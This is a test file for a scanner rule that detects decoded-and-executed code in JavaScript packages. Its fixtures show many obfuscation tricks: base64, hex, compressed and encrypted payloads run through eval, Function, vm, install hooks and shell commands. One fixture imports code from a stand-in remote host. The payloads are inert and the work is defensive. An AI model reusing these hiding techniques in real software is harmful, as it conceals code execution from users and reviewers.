import { examine } from '../../../test/examine.ts';
import { runsDecodedCode } from './runs-decoded-code.ts';

const FOLDER = `const { execSync } = require('child_process'), os = require('os'), path = require('path'); const { name } = JSON.parse(Buffer.from(require('fs').readFileSync('state.json', 'utf8'), 'base64').toString()); const folder = path.join(os.tmpdir(), 'review-' + name);`;

const MARKER = `globalThis.inertMarker = 'it ran'`;
const base64 = Buffer.from(MARKER).toString('base64');
const hex = Buffer.from(MARKER).toString('hex');
const codes = [...MARKER].map(letter => letter.charCodeAt(0)).join(',');
const spawning = Buffer.from(`require('child_process').execSync('inert-marker-command')`).toString('base64');

const FROM_SETTINGS = `const parts = Object.keys(process.env).filter(key => key.startsWith('npm_package_inert_')).map(key => process.env[key]); const list = ['aW5lcnQgbWFya2VyIG9ubHkgMTIz0']; `;

examine(runsDecodedCode, {
  speaks: [
    {
      when: 'a class that extends what makes functions is given a decoded text',
      files: { 'index.js': `new (class extends Function {})(atob('${base64}'))();` },
      weight: 'strong',
    },
    {
      when: 'what compiles modules is borrowed from their prototype',
      files: { 'index.js': `require('module').prototype._compile.call(module, atob('${base64}'), __filename);` },
      weight: 'strong',
    },
    {
      when: 'what makes functions of texts is found as the maker of a function, by names that are read elsewhere',
      files: {
        'index.js': `const { get, construct } = Reflect; const make = (of, text) => construct(get(of, 'constructor'), [text]); const read = value => Buffer.from(value.slice(2), 'base64').toString(); module.exports = { get: (o, key) => make(get, read(o[key])) }; module.exports.get({ seed: 'b:${base64}' }, 'seed')();`,
      },
      weight: 'strong',
    },
    {
      when: 'a client that is made decodes a setting of the package by names of a chain, and runs it',
      files: {
        'index.js': `const run = Object.getPrototypeOf(async () => {}).constructor; const codecs = { base64: text => Buffer.from(text, 'base64'), utf8: bytes => bytes.toString('utf8'), template: text => run(text)() }; exports.client = options => { const settings = { banner: 'IklORVJUIg==', ...options }; ['base64', 'utf8', 'template'].reduce((value, name) => codecs[name](value), settings.banner); };`,
      },
      weight: 'strong',
    },
    {
      when: 'code stands letter by letter in a table that a reader of its own goes through, and does something',
      files: {
        'index.js': `const cells = require('./cells.json'); class Reader { constructor() { this.at = 0; this.kept = new Map(); } step() { const cell = cells[this.at]; this.kept.set(this.at, String.fromCodePoint((cell - this.at) / 3)); return ++this.at < cells.length; } get text() { return [...this.kept.values()].join(''); } } const reader = new Reader(); while (reader.step()); module.exports = new Function(reader.text)();`,
        'cells.json': [...`import("https://cells.inert.invalid/a.mjs"); return 1`].map((one, at) => one.charCodeAt(0) * 3 + at),
      },
      weight: 'proof',
      says: ['stands nowhere in it', 'cells.inert.invalid'],
    },
    {
      when: 'a loader unpacks modules that its caller names, and makes them as Node does',
      files: {
        'index.js': `const zlib = require('zlib'), vm = require('vm'), fs = require('fs'); exports.load = file => vm.runInThisContext('(function (exports, require, module, __filename, __dirname) {' + zlib.inflateRawSync(fs.readFileSync(file)).toString() + '})');`,
      },
      weight: 'context',
    },
    {
      when: 'what was unpacked is made a function that is handed the loader of modules, in a library',
      files: {
        'index.js': `const zlib = require('zlib'), vm = require('vm'); exports.load = async pool => { const text = zlib.inflateRawSync(Buffer.from(await pool.txt('policy'), 'base64url')).toString(); return vm.runInThisContext('(function (pool, require) {' + text + '})')(pool, require); };`,
      },
      weight: 'strong',
    },
    {
      when: 'letters of code are gathered from headers, at least one byte each, and compiled by the constructor of modules under its second name',
      files: {
        'index.js': `const HINT = /g([0-9a-f]{4})h((?:[0-9a-f]{2}){1,})i/g, store = Buffer.alloc(64); const run = () => { const { Module } = module.constructor; const made = new (Module || module.constructor)('hint', module); made._compile(store.toString('utf8'), 'hint'); }; exports.hint = text => { for (const [, code, value] of text.matchAll(HINT)) code === 'fffa' ? run() : Buffer.from(value, 'hex').copy(store); };`,
      },
      weight: 'strong',
      says: ['among the text that it is handed'],
    },
    {
      when: 'letters of code are looked for among cookies',
      files: {
        'index.js': `const vm = require('vm'), store = Buffer.alloc(64), TOKEN = /g([0-9a-f]{4})h((?:[0-9a-f]{2})*)i/gi; exports.parse = text => { for (let m; (m = TOKEN.exec(text)); ) { if (m[1] === 'fffa') vm.runInThisContext(store.toString()); else Buffer.from(m[2], 'hex').copy(store, parseInt(m[1], 16)); } };`,
      },
      weight: 'strong',
      says: ['among the text that it is handed'],
    },
    {
      when: 'a loader has a lexer in another file evaluate names in code that it put lines of its own behind',
      files: {
        'lexer.js': `exports.wasm = 'AGFzbQEAAAABKwhgAX8Bf2AEf39/fwBgAAF'; exports.parse = code => (0, eval)(code);`,
        'index.js': `const { parse } = require('./lexer.js'); const map = '\\n//# sourceMappingURL=data:application/json;base64,'; const after = '.then(' + (module => module).toString() + ')'; const text = process.argv[2]; parse(Buffer.from(text, 'base64').toString() + after + map + text);`,
      },
      weight: 'weak',
    },
    {
      when: 'one of several programs is started, and one of them stands there encoded',
      files: {
        'index.js': `const { spawn } = require('child_process'); const go = kind => spawn(kind, ['--version']); go('npm'); go('pnpm'); go(Buffer.from('aW5lcnQtbWFya2Vy', 'base64').toString());`,
      },
      weight: 'strong',
    },
    {
      when: 'the letters of a part of the page are turned round and run as a script',
      files: {
        'index.js': `fetch('https://specimen.invalid/'); const found = [...document.querySelector('#specimen').textContent].reverse(); const script = document.createElement('script'); script.textContent = found.join(''); document.body.append(script);`,
      },
      weight: 'strong',
    },
    {
      when: 'a command names a folder that was decoded to Git',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `${FOLDER} execSync('git -C "' + folder + '" add -A')`,
      },
      weight: 'context',
    },
    {
      when: 'a command gives such a name to a shell',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `${FOLDER} execSync('sh -c "' + folder + '"')`,
      },
      weight: 'weak',
    },
    {
      when: 'a command gives such a name to Git at import',
      files: { 'index.js': `${FOLDER} execSync('git -C "' + folder + '" add -A')` },
      weight: 'strong',
    },
    {
      when: 'nothing reaches the file that decodes, nor the one that runs it',
      files: {
        'index.js': '',
        'lib/a.js': `const { run } = require('./b'); run(require('zlib').inflateSync(require('fs').readFileSync(__dirname + '/data.bin')).toString())`,
        'lib/b.js': `exports.run = text => eval(text)`,
      },
      weight: 'context',
    },
    {
      when: 'the entry loads the file that decodes, and another file runs it',
      files: {
        'index.js': `require('./lib/a')`,
        'lib/a.js': `const { run } = require('./b'); run(require('zlib').inflateSync(require('fs').readFileSync(__dirname + '/data.bin')).toString())`,
        'lib/b.js': `exports.run = text => eval(text)`,
      },
      weight: 'strong',
    },
    {
      when: 'nothing reaches the file that decodes and runs it',
      files: {
        'index.js': '',
        'lib/a.js': `eval(require('zlib').inflateSync(require('fs').readFileSync(__dirname + '/data.bin')).toString())`,
      },
      weight: 'weak',
    },
    {
      when: 'a decoded text is a command',
      files: { 'index.js': `require('child_process').execSync(Buffer.from('OiBpbmVydA==', 'base64').toString())` },
      weight: 'strong',
    },
    {
      when: 'a decoded text is a worker',
      files: {
        'index.js': `new (require('worker_threads').Worker)(Buffer.from('Z2xvYmFsVGhpcy5fX2luZXJ0PTE=', 'base64').toString(), { eval: true })`,
      },
    },
    {
      when: 'a plain file evaluates base64',
      files: { 'index.js': `eval(Buffer.from('${base64}', 'base64').toString())` },
      weight: 'strong',
      says: ['when it is imported'],
    },
    {
      when: 'the string "src/*" stands before it',
      files: { 'index.js': `const glob = "src/*";\neval(atob('${base64}'));` },
      weight: 'strong',
    },
    {
      when: 'it stands in a command without an extension',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: { specimen: 'cli' } },
        cli: `#!/usr/bin/env node\neval(atob('${base64}'))`,
      },
      says: ['when its command is run'],
    },
    {
      when: 'it lies under dist and nothing reaches it',
      files: { 'index.js': '', 'dist/a.js': `eval(atob('${base64}'))` },
      weight: 'weak',
    },
    {
      when: 'it is the main file under dist',
      files: { 'package.json': { name: 'specimen', version: '1.0.0', main: 'dist/a.js' }, 'dist/a.js': `eval(atob('${base64}'))` },
      weight: 'strong',
    },
    {
      when: 'it goes through vm',
      files: { 'index.js': `require('vm').runInThisContext(Buffer.from('${hex}', 'hex').toString('utf8'))` },
      weight: 'strong',
    },
    {
      when: 'it goes through the constructor of a function',
      files: { 'index.js': `(() => {}).constructor(Buffer.from('${hex}', 'hex').toString())()` },
      weight: 'strong',
    },
    {
      when: 'eval is called indirectly on character codes',
      files: { 'index.js': `(0, eval)(String.fromCharCode(${codes}))` },
      weight: 'strong',
    },
    {
      when: 'eval is reached by a joined name',
      files: { 'index.js': `globalThis['ev' + 'al'](String.fromCharCode(${codes}))` },
      weight: 'strong',
    },
    { when: 'a timer is given the text', files: { 'index.js': `setTimeout(atob('${base64}'), 0)` }, weight: 'strong' },
    {
      when: 'a module compiles it',
      files: { 'index.js': `const m = new module.constructor(); m._compile(atob('${base64}'), 'x')` },
      weight: 'strong',
    },
    {
      when: 'it is compressed',
      files: { 'index.js': `eval(require('zlib').inflateSync(Buffer.from('eJwDAAAAAAE=', 'base64')).toString())` },
      weight: 'strong',
      says: ['it runs code that was encoded'],
    },
    {
      when: 'it is encrypted',
      files: {
        'index.js': `const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); let s = d.update(x, 'hex', 'utf8'); s += d.final('utf8'); new Function('require', s)(require)`,
      },
      weight: 'strong',
    },
    {
      when: 'the decoded code starts a process',
      files: { 'index.js': `eval(atob('${spawning}'))` },
      weight: 'proof',
      says: ['inert-marker-command'],
    },
    {
      when: 'the decoded code starts a process, and another place ran the same text before',
      files: { 'index.js': `const t = atob('${spawning}'); exports.later = () => eval(t); eval(t);` },
      weight: 'proof',
      says: ['when it is imported; the decoded code spawns inert-marker-command'],
    },
    {
      when: 'a function is made of parts when it is called, and elsewhere in the file one that loads a module is made in the open',
      files: {
        'index.js': `const load = new Function('path', 'return import(path)'); exports.load = path => load(path);
          exports.compile = (names, code) => new Function('data', String.fromCharCode(...names) + 'return ' + String.fromCharCode(...code))();`,
      },
      weight: 'context',
    },
    {
      when: 'an install hook does it',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
        'setup.js': `eval(atob('${base64}'))`,
      },
      weight: 'proof',
      says: ['when it is installed'],
    },
    {
      when: 'a command is decrypted',
      files: {
        'index.js': `const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', c.createHash('sha256').update(process.env.X).digest(), Buffer.alloc(16)); require('child_process').execSync(d.update('494e4552', 'hex', 'utf8') + d.final('utf8'))`,
      },
      weight: 'strong',
    },
    {
      when: 'a timer is given one of two functions',
      files: { 'index.js': `const t = '${base64}'; setTimeout(Date.now() > 1 ? () => Function(atob(t))() : () => {}, 10)` },
      weight: 'strong',
    },
    {
      when: 'the text stands in pieces in a table of another file',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', main: 'index.js' },
        'index.js': `import messages from './messages.js'; const all = keys => keys.map(key => messages.en[key]).join(''); new Function(atob(all(['a', 'b'])))();`,
        'messages.js': `export default { en: { a: '${'Z2xvYmFsVGhpcy5tYXJr'}', b: 'ZXIgPSAnaW5lcnQnOw==' } };`,
      },
      weight: 'strong',
    },
    {
      when: 'code is decrypted with the key beside it, when it is called',
      files: {
        'index.js': `const c = require('crypto'); const all = '494e455254494e455254494e455254494e455254494e4552.494e455254494e455254494e4552.494e4552';
          exports.open = () => { const [k, iv, body] = all.split('.').map(x => Buffer.from(x, 'hex')); const d = c.createDecipheriv('aes-256-cbc', k, iv);
            Reflect.construct(Function, ['require', Buffer.concat([d.update(body), d.final()]).toString()])(require); };`,
      },
      weight: 'strong',
    },
    {
      when: 'it decrypts and runs what a caller brings',
      files: {
        'index.js': `const c = require('crypto'); exports.open = (key, iv, body) => { const d = c.createDecipheriv('aes-256-cbc', key, iv); new Function(d.update(body, 'hex', 'utf8') + d.final('utf8'))(); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a loader unpacks what others have compiled',
      files: {
        'index.js': `const fs = require('fs'), vm = require('vm'), zlib = require('zlib'); function made(cachedData, filename) { if (cachedData[0] > 1) cachedData = zlib.brotliDecompressSync(cachedData); let code = ''; if (cachedData.length > 1) code = '"' + ' '.repeat(cachedData.length - 2) + '"'; return new vm.Script(code, { cachedData, filename }); } require('module')._extensions['.jsc'] = (module, name) => made(fs.readFileSync(name), name).runInThisContext();`,
      },
      weight: 'weak',
    },
    {
      when: 'a loader unpacks what lies beside it',
      files: {
        'index.js': `const fs = require('fs'), vm = require('vm'), zlib = require('zlib'); function made(cachedData, filename) { if (cachedData[0] > 1) cachedData = zlib.brotliDecompressSync(cachedData); let code = ''; if (cachedData.length > 1) code = '"' + ' '.repeat(cachedData.length - 2) + '"'; return new vm.Script(code, { cachedData, filename }); } require('module')._extensions['.bin'] = (module, name) => made(fs.readFileSync(name), name).runInThisContext();`,
        NOTICE: 'SU5FUlQ'.repeat(100),
      },
      weight: 'strong',
    },
    {
      when: 'what settings of the package hold is decoded and run at once, in a package that is long by its comments and by other files',
      files: {
        'index.js': `// ${'it pads texts '.repeat(4_000)}\n${FROM_SETTINGS}eval(Buffer.from(parts.join('') || list[+process.env.INERT_AT || 9], 'base64').toString());`,
        'lib.js': 'exports.pad = (text, size) => String(text).padStart(size);\n'.repeat(1_000),
      },
      weight: 'strong',
    },
    {
      when: 'a function of a long bundle runs whatever it is handed, and that was decoded somewhere',
      files: {
        'index.js': `const run = text => (0, eval)(text);\n${'exports.pad = (text, size) => String(text).padStart(size);\n'.repeat(1_200)}const words = ['aW5lcnQgbWFya2VyIG9ubHkgMTIz0']; exports.read = (given = '') => run(Buffer.from(given, 'base64').toString()); exports.read(words.find(word => word.length > Date.now()));`,
      },
      weight: 'weak',
    },
    {
      when: 'a function runs whatever it is handed, that was decoded somewhere, and only comments make the file long',
      files: {
        'index.js': `const run = text => (0, eval)(text);\n${'// it pads texts on the left and on the right\n'.repeat(1_200)}const words = ['aW5lcnQgbWFya2VyIG9ubHkgMTIz0']; exports.read = (given = '') => run(Buffer.from(given, 'base64').toString()); exports.read(words.find(word => word.length > Date.now()));`,
      },
      weight: 'strong',
    },
    {
      when: 'PowerShell is given it behind an option in capitals',
      files: {
        'index.js': `const { exec } = require('child_process'); const code = require('zlib').gunzipSync(Buffer.from(require('./d.json').x, 'base64')).toString(); exec('powershell -C ' + code);`,
        'd.json': '{ "x": "SU5FUlQtTUFSS0VS" }',
      },
    },
  ],
  silent: [
    {
      when: 'what was decrypted is unpacked into a folder',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst crypto = require('crypto'), cp = require('child_process'), fs = require('fs'); const [file, to, key] = process.argv.slice(2); const data = fs.readFileSync(file); const opened = crypto.createDecipheriv('aes-256-gcm', key, data.subarray(0, 12)); const tar = cp.spawn('tar', ['-xzf', '-', '-C', to]); tar.stdin.end(Buffer.concat([opened.update(data.subarray(12)), opened.final()]));`,
      },
    },

    {
      when: 'what it would run is no program',
      files: {
        'index.js': `const run = data => require('vm').runInThisContext(data); run(String(undefined)); run(Buffer.from('MTA=', 'base64').toString());`,
      },
    },
    {
      when: 'code is made of a template that stands in the package, and asks for what its caller names',
      files: {
        'index.js': `const parts = ['return ', 'fetch("https://api.inert.invalid/" + path)']; let code = ''; for (const part of parts) code += part; exports.ask = new Function('path', code);`,
      },
    },
    {
      when: 'bytes are looked for among text, and shown',
      files: {
        'index.js': `const BYTES = /x((?:[0-9a-f]{2})+)x/g; exports.show = text => text.replace(BYTES, (all, hex) => Buffer.from(hex, 'hex').toString()); exports.answer = () => new Function('return 42')();`,
      },
    },
    {
      when: 'one of several programs that all stand in the code is started, whatever a setting that came encoded says',
      files: {
        'index.js': `const { spawn } = require('child_process'); const go = kind => spawn(kind, ['--version']); go('brew'); go('npm'); go('pnpm'); go('yarn'); go(Buffer.from('YnJldw==', 'base64').toString());`,
      },
    },
    {
      when: 'parts of the page are gone through backwards, and the scripts of one are put in anew',
      files: {
        'index.js': `fetch('https://specimen.invalid/'); const first = (list, at) => { for (const one of list) if (one.compareDocumentPosition(at) === 4) return one; }; const before = (at, what) => first([...document.querySelectorAll(what)].reverse(), at); const after = (at, what) => first(document.querySelectorAll(what), at);
          for (const old of before(document.body, 'main').querySelectorAll('script')) { const script = document.createElement('script'); script.textContent = old.textContent; old.replaceWith(script); } after(document.body, 'p');`,
      },
    },
    {
      when: 'a compiler of templates puts together code around what it decodes of a template',
      files: {
        'index.js': `function compile(template, ssr) { const parts = [], push = t => { parts.push(t); }; push('return function ' + (ssr ? 'ssrRender' : 'render') + '(ctx) {'); push('with (ctx) { return ' + JSON.stringify(decodeURIComponent(template)) + ' }}'); return { code: parts.join('') } }
          exports.run = (template, ssr) => { const { code } = compile(template, ssr); return new Function(code)() }`,
      },
    },
    {
      when: 'a timer is given a function that was bound to what was decoded',
      files: {
        'index.js': `const later = setTimeout; function show(text) { document.title = text; } later(show.bind(null, atob(location.hash), 'SU5FUlQgSU5FUlQgSU5FUlQgSU5FUlQ1'), 10);`,
      },
    },
    {
      when: 'a page brings the text, and nothing that could have been decoded is in the file',
      files: {
        'index.js': `const plain = text => text.replace(/&#(\\d+);/g, (all, code) => String.fromCharCode(code));
          const compile = text => new Function('view', plain(text))();
          compile(document.body.textContent);`,
      },
    },
    {
      when: 'a program with a short name gets arguments that were decoded',
      files: { 'index.js': `module.exports = words => require('child_process').spawn('dart', [Buffer.from(words, 'hex').toString()])` },
    },
    {
      when: 'a compiler of templates checks an expression whose entities were decoded',
      files: {
        'index.js': `exports.check = text => new Function('return (' + text.replace(/&#(\\d+);/g, (all, code) => String.fromCharCode(code)) + ')');`,
      },
    },
    {
      when: 'a template engine compiles its own text',
      files: { 'index.js': `exports.compile = body => new Function('data', 'with (data) { return ' + body + ' }')` },
    },
    { when: 'a constant text is made a function', files: { 'index.js': `module.exports = new Function('a', 'b', 'return a + b')` } },
    {
      when: 'a generator joins readable pieces',
      files: {
        'index.js': `module.exports = new Function(['var result = 1;', 'for (var i = 0; i < 9; i++) result *= 2;', 'result += 5;', 'return result;'].join(''))`,
      },
    },
    {
      when: 'a mailer decodes and never runs',
      files: { 'index.js': `exports.body = mail => Buffer.from(mail.body, 'base64').toString()` },
    },
    { when: 'a README shows it', files: { 'README.md': `eval(atob('${base64}'))`, 'index.js': `// eval(atob('${base64}'))` } },
    {
      when: 'a decrypted password goes to a known program',
      files: {
        'index.js': `const c = require('crypto'); exports.dump = (k, b) => { const d = c.createDecipheriv('aes-256-cbc', k, b); require('child_process').execFileSync('pg_dump', ['--password', d.update(b, 'hex', 'utf8') + d.final('utf8')]); }`,
      },
    },
    {
      when: 'a loader hands its settings to a process of its own, packed',
      files: {
        'index.js': `const zlib = require('zlib'); const cp = require('child_process'); cp.spawn(process.execPath, ['--require', require.resolve('./child'), '--settings=' + zlib.brotliDecompressSync(Buffer.from(process.argv[2] || '', 'base64'))], { stdio: 'inherit' })`,
        'child.js': '1',
      },
    },
    {
      when: 'what was decoded is shown by the means of each system, of which one lies in one of two folders',
      files: {
        'index.js': `const TITLE = 'Tidy';
          const LINES = ['on run argv', 'display notification (item 2 of argv)', 'end run'];
          exports.show = packed => {
            const said = require('zlib').inflateRawSync(packed).toString();
            const { file, args } = shown(process.platform, said + ': ' + said, process.env.SystemRoot ?? 'C:\\\\Windows');
            require('child_process').spawn(file, args, { stdio: 'ignore' });
          };
          function shown(platform, text, root) {
            switch (platform) {
              case 'darwin':
                return { file: '/usr/bin/osascript', args: [...LINES.flatMap(line => ['-e', line]), TITLE, text] };
              case 'win32':
                return { file: root + '/System32/powershell.exe', args: ['-NoProfile', '-NonInteractive', '-Command', 'Show-Toast $env:TEXT'] };
              default:
                return { file: 'notify-send', args: ['--', TITLE, text] };
            }
          }`,
      },
    },
  ],
});
